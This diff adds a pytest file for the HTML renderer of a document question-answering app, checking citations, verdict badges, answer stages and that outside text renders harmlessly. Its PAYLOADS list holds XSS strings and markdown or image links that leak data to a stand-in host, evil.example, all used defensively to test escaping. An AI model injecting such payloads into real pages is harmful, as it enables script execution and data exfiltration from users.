@@ -1,0 +1,228 @@
+"""What the window draws: every verdict, stage and reason is shown, and nothing that comes from outside can act."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import pytest
+
+from rag import Answer, Citation, Hit, Passage, Sentence, Status, Verdict
+from ui.render import (
+    Exchange,
+    escape,
+    place,
+    plain,
+    render_exchange,
+    render_past,
+    render_scope,
+    render_status,
+    render_welcome,
+    shorten,
+)
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    "![pixel](https://evil.example/leak.png)",
+    "[click](javascript:alert(1))",
+    "![a][b]\n\n[b]: https://evil.example/?q=secret",
+    "<a href='javascript:alert(1)'>here</a>",
+    "</mark></p><iframe src='https://evil.example'></iframe>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "${alert(1)} {{value}} `${1}`",
+    "in\u202evisible \u200bzero\ufeff \U000e0041tag\x00\x1b[31m",
+    "<form action='https://evil.example'><input name=q></form>",
+    "\ud800 lone",
+]
+TAGS = set(
+    "article section header footer nav div span p ul ol li h1 h2 h3 h4 h5 h6 b q button input code strong details "
+    "summary progress mark table thead tr th td pre a figure img svg rect br".split()
+)
+ATTRIBUTES = set(
+    "class id type dir role lang tabindex style alt width height x y rx viewbox max value checked download aria-label "
+    "aria-live aria-hidden aria-selected href src".split()
+)
+
+
+class Page(HTMLParser):
+    """Collects what a browser would see."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str]]] = []
+        self.words = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, {name: value or "" for name, value in attrs}))
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+    def find(self, name: str) -> list[dict[str, str]]:
+        """Return the attributes of every element of a class."""
+        return [attributes for _, attributes in self.tags if name in attributes.get("class", "").split()]
+
+
+def assert_inert(html: str) -> Page:
+    """Fail on any element, attribute or address that the window does not draw itself."""
+    page = Page(html)
+    for tag, attributes in page.tags:
+        assert tag in TAGS, html
+        for name, value in attributes.items():
+            assert name in ATTRIBUTES or name.startswith("data-"), f"{name}={value}"
+            assert name != "href" or value.startswith("original/")
+            assert name != "src" or value.startswith("data:image/png;base64,")
+    return page
+
+
+def citation(number: int = 1, quote: str = "It opens at nine.", **other: object) -> Citation:
+    return replace(
+        Citation(number, f"p{number}", "d1", "guide.pdf", "Guide", 10, 10 + len(quote), quote, "A > Hours", 12, "iv"),
+        **other,
+    )
+
+
+def sentence(verdict: Verdict = Verdict.SUPPORTED, text: str = "It opens at nine.", reason: str = "") -> Sentence:
+    return Sentence(text, () if verdict == Verdict.UNSUPPORTED else (citation(),), verdict, reason)
+
+
+def hit(text: str = "It opens at nine.", source: str = "guide.pdf") -> Hit:
+    passage = Passage("p1", "d1", source, "Guide", 0, 10, 10 + len(text), text, "A > Hours", 12, "iv")
+    return Hit(passage, 1, 0.9, 1, 0.8, None, None)
+
+
+def answer(*sentences: Sentence, **other: object) -> Answer:
+    whole = Answer("When?", "When?", tuple(sentences), stage="done", mode="llm", final=True, confidence=0.8)
+    return replace(whole, **other)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_words_from_outside_are_inert_wherever_they_stand(payload: str) -> None:
+    said = Sentence(
+        payload, (citation(1, payload, source=payload, heading=payload, document_id=payload),), reason=payload
+    )
+    whole = answer(
+        said, question=payload, standalone=payload + "?", notice=payload, hits=(hit(payload, payload),), stage=payload
+    )
+    refused = replace(whole, abstained=payload, missing_words=(payload,))
+    for one in (whole, refused, replace(whole, final=False), replace(whole, mode="quotes")):
+        assert_inert(render_exchange(Exchange(one, trouble=payload), last=True))
+        assert_inert(render_exchange(Exchange(one)))
+    assert_inert(render_welcome(Status(payload, 1, 1, payload, payload), [payload]))
+    assert_inert(render_status(Status(payload, 1, 1, payload, payload, notices=(payload,))))
+
+
+def test_words_are_shown_as_they_are() -> None:
+    page = Page(render_exchange(Exchange(answer(sentence(text="a < b & c > d \"e\" 'f' ${g} {{h}}")))))
+    assert "a < b & c > d \"e\" 'f' ${g} {{h}}" in page.words
+
+
+def test_characters_that_no_reader_sees_are_taken_out() -> None:
+    assert escape("a\u202eb\u200bc\U000e0041d\x00e\ud800f") == "abcdef"
+    assert escape("tab\tline\n سلام 👩‍💻") == "tab\tline\n سلام 👩‍💻"
+
+
+@pytest.mark.parametrize(
+    ("verdict", "title"),
+    [
+        (Verdict.QUOTED, "Quoted"),
+        (Verdict.SUPPORTED, "Supported"),
+        (Verdict.PARTLY, "Partly supported"),
+        (Verdict.UNSUPPORTED, "Not supported"),
+    ],
+)
+def test_every_sentence_says_whether_it_is_supported_and_why(verdict: Verdict, title: str) -> None:
+    page = Page(render_exchange(Exchange(answer(sentence(verdict, reason="ninety is not there")))))
+    assert [s["class"] for s in page.find("sentence")] == [f"sentence {verdict.value}"]
+    assert [b["data-tip"] for b in page.find("badge")] == [f"{title}. ninety is not there"]
+
+
+def test_a_marker_carries_the_exact_place() -> None:
+    [marker] = Page(render_exchange(Exchange(answer(sentence())))).find("cite")
+    assert (marker["data-document"], marker["data-start"], marker["data-end"]) == ("d1", "10", "27")
+    assert marker["aria-label"] == 'Source 1: guide.pdf, page 12 (printed as "iv")'
+    assert "It opens at nine." in marker["data-tip"]
+
+
+def test_sources_stand_below_the_answer_once_each() -> None:
+    page = Page(render_exchange(Exchange(answer(sentence(), sentence()))))
+    assert len(page.find("cite")) == 2
+    assert len(page.find("source")) == 1
+    assert "guide.pdf" in page.words
+    assert "page 12 (iv) · Hours" in page.words
+
+
+def test_stages_are_shown_while_an_answer_is_made() -> None:
+    for stage, classes in (
+        ("searching", "now next next"),
+        ("reading", "done now next"),
+        ("answering", "done done now"),
+    ):
+        page = Page(render_exchange(Exchange(Answer("When?", "When?", stage=stage))))
+        assert " ".join(a["class"] for tag, a in page.tags if tag == "li") == classes
+    assert Exchange(Answer("When?", "When?")).live
+
+
+def test_an_abstention_says_why_what_is_missing_and_what_is_near() -> None:
+    none = answer(abstained="The documents do not answer this.", missing_words=("zebra",), hits=(hit(),) * 9)
+    page = Page(render_exchange(Exchange(none)))
+    assert page.find("abstained")
+    assert "The documents do not answer this." in page.words
+    assert "zebra" in page.words
+    assert len(page.find("near")) == 4
+    assert not page.find("sentence")
+    assert "confidence" not in page.words
+
+
+def test_a_follow_up_shows_how_it_was_understood() -> None:
+    assert "understood" not in render_exchange(Exchange(answer(sentence())))
+    page = Page(render_exchange(Exchange(answer(sentence(), standalone="When does the library open?"))))
+    assert "When does the library open?" in page.words
+
+
+def test_trouble_ends_an_answer_and_keeps_what_was_said() -> None:
+    broken = Exchange(answer(sentence(), final=False, stage="answering"), trouble="The disk is full. Free some space.")
+    page = Page(render_exchange(broken, last=True))
+    assert not broken.live
+    assert "The disk is full. Free some space." in page.words
+    assert "It opens at nine." in page.words
+    assert "again" in [attributes.get("data-do") for _, attributes in page.tags]
+
+
+def test_only_the_last_answer_can_be_asked_again() -> None:
+    assert 'data-do="again"' not in render_past([Exchange(answer(sentence()))])
+
+
+def test_the_copy_names_its_sources() -> None:
+    assert plain(answer(sentence())) == (
+        'When?\n\nIt opens at nine. [1]\n\n[1] guide.pdf, page 12 (printed as "iv"): “It opens at nine.”'
+    )
+
+
+def test_without_a_model_a_banner_says_how_to_get_one() -> None:
+    assert "RAG_LLM_BASE_URL" in render_status(Status("x", 1, 2, "m", ""))
+    assert "RAG_LLM_BASE_URL" not in render_status(Status("x", 1, 2, "m", "llama"))
+    assert "written by llama" in render_status(Status("x", 1, 2, "m", "llama"))
+    assert "1 document<" in render_status(Status("x", 1, 2, "m", ""))
+
+
+def test_the_welcome_asks_for_documents_when_there_are_none() -> None:
+    assert "no documents yet" in render_welcome(Status("x", 0, 0, "m", ""), [])
+
+
+def test_the_scope_is_named_only_when_it_is_narrower() -> None:
+    assert render_scope(0, 5) == ""
+    assert "Asking 2 of 5 documents" in Page(render_scope(2, 5)).words
+
+
+def test_places_and_lengths() -> None:
+    assert place("", None, None) == ""
+    assert place("A > B", 3, "3") == "page 3 · B"
+    assert shorten("one two\nthree", 99) == "one two three"
+    assert shorten("one two three", 9) == "one two…"
